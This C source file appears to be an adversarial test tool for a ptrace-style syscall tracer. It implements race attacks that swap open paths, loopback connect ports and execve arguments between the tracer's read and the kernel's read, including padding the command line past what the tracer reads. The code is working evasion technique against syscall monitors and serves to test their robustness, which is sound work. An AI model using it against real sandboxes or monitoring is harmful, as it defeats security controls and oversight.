/* Argument swapping ("Phantom" attacks): a second thread rewrites the syscall's argument in
 * step with the tracer's stop (it watches /proc/self/task/TID/stat for the traced thread's 't'
 * state, and its /proc syscall file for the syscall it attacks), so the tracer reads one
 * value and the kernel another. Usage:
 *   adv_flip open PATH_A PATH_B N      N opens of a buffer flipped between two paths of the same
 *                                      length; prints opened=<one letter per open: A, B, or E>
 *                                      (from the inode of what was opened)
 *   adv_flip connect PORT_A PORT_B N   N TCP connects to 127.0.0.1 with the port flipped (two
 *                                      listeners in this process); prints connected=<A/B/E ...>
 *                                      (from getpeername)
 *   adv_flip exec WORD_A WORD_B N      N children each exec /bin/echo with argv[1] toggled
 *                                      between two words of the same length from the stop on;
 *                                      prints executed=<A/B/E ...> (what echo printed);
 *                                      ADV_FLIP_PAD=BYTES adds arguments of that many bytes
 *                                      in all after the word, 64 KiB each at most (a command
 *                                      line longer than the tracer reads whole at the stop);
 *                                      with ADV_FLIP_PAD_FIRST=1 they come before the word, and
 *                                      the letter is decided by the word's first length-1
 *                                      characters (all a stop that cuts the last byte can see)
 * The benign value is A; the flipper puts B in the buffer while the thread leaves its stop and
 * A back once it is running. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "adv.h"

static pid_t victim;
static atomic_int done, flipper_ready;
static char path_a[256], path_b[256];
static volatile char pathbuf[256];
static struct sockaddr_in addr_a, addr_b;
static volatile struct sockaddr_in addrbuf;
static int mode_connect, mode_exec;
extern char **environ;

static int statfd = -1, sysfd = -1;
static long target_nr, flip_delay;

/* The syscall the traced thread is in (its /proc syscall file), -1 when running. */
static long syscall_of(void)
{
    char buf[256];
    ssize_t n = pread(sysfd, buf, sizeof buf - 1, 0);
    if (n <= 0 || buf[0] < '0' || buf[0] > '9')
        return -1;
    buf[n] = '\0';
    return strtol(buf, NULL, 10);
}

/* The traced thread's state letter (pread of its stat file: no open per look). */
static char state_of(void)
{
    char buf[512];
    ssize_t n = pread(statfd, buf, sizeof buf - 1, 0);
    if (n <= 0)
        return '?';
    buf[n] = '\0';
    char *rp = strrchr(buf, ')');
    return rp && rp[1] == ' ' ? rp[2] : '?';
}

static void put(int b)
{
    if (mode_connect)
        memcpy((void *)&addrbuf, b ? &addr_b : &addr_a, sizeof addrbuf);
    else
        memcpy((void *)pathbuf, b ? path_b : path_a, strlen(path_a) + 1);
}

static void *flipper(void *arg)
{
    (void)arg;
    atomic_store(&flipper_ready, 1);
    while (!atomic_load(&done)) {
        if (state_of() != 't' || (target_nr >= 0 && syscall_of() != target_nr))
            continue;
        if (mode_exec) {
            /* the tracer reads the arguments during the stop, the kernel once the thread runs
             * again: toggle them until the exec ends this thread, so the two reads see either
             * word, independently */
            for (int b = 1;; b ^= 1) {
                put(b);
                for (volatile int spin = 0; spin < 200; spin++)
                    ;
            }
        }
        /* stopped: the tracer reads the argument in the first microseconds of the stop; the
         * kernel reads it again once the thread leaves the stop */
        for (volatile long spin = 0; spin < flip_delay; spin++)
            ;
        put(1);
        while (!atomic_load(&done) && state_of() == 't')
            ;
        for (volatile int spin = 0; spin < 2000; spin++)
            ;
        put(0);
    }
    return NULL;
}

static void *acceptor(void *arg)
{
    int ls = (int)(intptr_t)arg;
    for (;;) {
        int c = accept(ls, NULL, NULL);
        if (c < 0)
            return NULL;
        close(c);
    }
}

static int listener(struct sockaddr_in *a, int port)
{
    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), one = 1;
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    memset(a, 0, sizeof *a);
    a->sin_family = AF_INET;
    a->sin_port = htons((uint16_t)port);
    a->sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (bind(s, (struct sockaddr *)a, sizeof *a) != 0 || listen(s, 512) != 0)
        return -1;
    pthread_t th;
    pthread_create(&th, NULL, acceptor, (void *)(intptr_t)s);
    return s;
}

static int watch_self(void)
{
    victim = (pid_t)syscall(SYS_gettid);
    char sp[64];
    snprintf(sp, sizeof sp, "/proc/self/task/%d/stat", (int)victim);
    statfd = open(sp, O_RDONLY | O_CLOEXEC);
    snprintf(sp, sizeof sp, "/proc/self/task/%d/syscall", (int)victim);
    sysfd = open(sp, O_RDONLY | O_CLOEXEC);
    return statfd < 0 || sysfd < 0 ? -1 : 0;
}

/* One exec of /bin/echo WORD [PAD] (or PAD WORD) in a child with its own flipper thread: what
 * echo printed (the word). */
enum { PAD_MAX = 16, PAD_PIECE = 65536 };
static char *pads[PAD_MAX + 1];
static int pad_first;
static char echoed[PAD_MAX * (PAD_PIECE + 1) + 512];
static char exec_attempt(void)
{
    int p[2];
    if (pipe(p) != 0)
        return 'E';
    pid_t c = fork();
    if (c == 0) {
        dup2(p[1], 1);
        close(p[0]);
        close(p[1]);
        put(0);
        pthread_t th;
        if (watch_self() != 0 || pthread_create(&th, NULL, flipper, NULL) != 0)
            _exit(126);
        while (!atomic_load(&flipper_ready)) /* (it is watching before the exec) */
            ;
        char *av[3 + PAD_MAX] = {"echo"};
        int k = 1;
        if (!pad_first)
            av[k++] = (char *)pathbuf;
        for (int i = 0; pads[i]; i++)
            av[k++] = pads[i];
        if (pad_first)
            av[k++] = (char *)pathbuf;
        av[k] = NULL;
        syscall(SYS_execve, "/bin/echo", av, environ);
        _exit(127);
    }
    close(p[1]);
    size_t got = 0;
    for (ssize_t n = 1; c > 0 && n > 0 && got<sizeof echoed - 1; got += n> 0 ? (size_t)n : 0)
        n = read(p[0], echoed + got, sizeof echoed - 1 - got);
    close(p[0]);
    if (c > 0)
        waitpid(c, NULL, 0);
    echoed[got] = '\0';
    echoed[strcspn(echoed, "\n")] = '\0';
    const char *word = echoed;
    if (pad_first && strrchr(echoed, ' '))
        word = strrchr(echoed, ' ') + 1;
    else
        echoed[strcspn(echoed, " ")] = '\0';
    size_t cmp = strlen(path_a) - (pad_first ? 1 : 0);
    if (!word[0] || strlen(word) != strlen(path_a))
        return 'E';
    return !strncmp(word, path_b, cmp) ? 'B' : !strncmp(word, path_a, cmp) ? 'A' : 'E';
}

int main(int argc, char **argv)
{
    if (argc < 5) {
        fputs("usage: adv_flip open A B N | connect PORT_A PORT_B N | exec WORD_A WORD_B N\n",
              stderr);
        return 2;
    }
    long n = adv_num(argc, argv, 4, 1000);
    mode_connect = strcmp(argv[1], "connect") == 0;
    mode_exec = strcmp(argv[1], "exec") == 0;
    struct stat sa, sb;
    if (mode_exec) {
        snprintf(path_a, sizeof path_a, "%s", argv[2]);
        snprintf(path_b, sizeof path_b, "%s", argv[3]);
        if (strlen(path_a) != strlen(path_b)) {
            fputs("adv_flip: two words of the same length\n", stderr);
            return 2;
        }
    } else if (mode_connect) {
        if (listener(&addr_a, atoi(argv[2])) < 0 || listener(&addr_b, atoi(argv[3])) < 0) {
            perror("listen");
            return 1;
        }
    } else {
        snprintf(path_a, sizeof path_a, "%s", argv[2]);
        snprintf(path_b, sizeof path_b, "%s", argv[3]);
        if (strlen(path_a) != strlen(path_b) || stat(path_a, &sa) || stat(path_b, &sb)) {
            fputs("adv_flip: two existing paths of the same length\n", stderr);
            return 2;
        }
    }
    put(0);
    /* ADV_FLIP_SYSCALL=0: flip at every stop, not only the attacked syscall's;
     * ADV_FLIP_DELAY: busy-loop iterations between seeing the stop and flipping */
    const char *ev = getenv("ADV_FLIP_SYSCALL");
    target_nr = ev && !strcmp(ev, "0") ? -1
                : mode_exec            ? SYS_execve
                : mode_connect         ? SYS_connect
                                       : SYS_openat;
    flip_delay = getenv("ADV_FLIP_DELAY") ? atol(getenv("ADV_FLIP_DELAY"))
                 : mode_connect           ? 8000
                                          : 3000;
    if (mode_exec) {
        long padlen = getenv("ADV_FLIP_PAD") ? atol(getenv("ADV_FLIP_PAD")) : 0;
        pad_first = getenv("ADV_FLIP_PAD_FIRST") && !strcmp(getenv("ADV_FLIP_PAD_FIRST"), "1");
        for (int i = 0; padlen > 0 && i < PAD_MAX; i++) {
            size_t len = padlen > PAD_PIECE ? PAD_PIECE : (size_t)padlen;
            if ((pads[i] = malloc(len + 1)) == NULL)
                return 1;
            memset(pads[i], 'x', len);
            pads[i][len] = '\0';
            padlen -= (long)len;
        }
        char *seq = malloc((size_t)n + 1);
        long b_count = 0;
        for (long i = 0; i < n; i++) {
            seq[i] = exec_attempt();
            b_count += seq[i] == 'B';
        }
        seq[n] = '\0';
        printf("executed=%s\n", seq);
        printf("flipped ret=%ld errno=0\n", b_count);
        return 0;
    }
    if (watch_self() != 0)
        return 1;
    pthread_t th;
    pthread_create(&th, NULL, flipper, NULL);
    char *seq = malloc((size_t)n + 1);
    long b_count = 0;
    for (long i = 0; i < n; i++) {
        char got = 'E';
        if (mode_connect) {
            int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
            struct sockaddr_in peer;
            socklen_t pl = sizeof peer;
            if (connect(s, (struct sockaddr *)&addrbuf, sizeof addrbuf) == 0 &&
                getpeername(s, (struct sockaddr *)&peer, &pl) == 0)
                got = peer.sin_port == addr_b.sin_port ? 'B' : 'A';
            close(s);
        } else {
            int fd = open((const char *)pathbuf, O_RDONLY | O_CLOEXEC);
            struct stat so;
            if (fd >= 0 && fstat(fd, &so) == 0)
                got = so.st_ino == sb.st_ino && so.st_dev == sb.st_dev ? 'B' : 'A';
            if (fd >= 0)
                close(fd);
        }
        seq[i] = got;
        b_count += got == 'B';
    }
    seq[n] = '\0';
    atomic_store(&done, 1);
    pthread_join(th, NULL);
    printf("%s=%s\n", mode_connect ? "connected" : "opened", seq);
    printf("flipped ret=%ld errno=0\n", b_count);
    fflush(stdout);
    _exit(0); /* (the acceptor threads block in accept) */
}
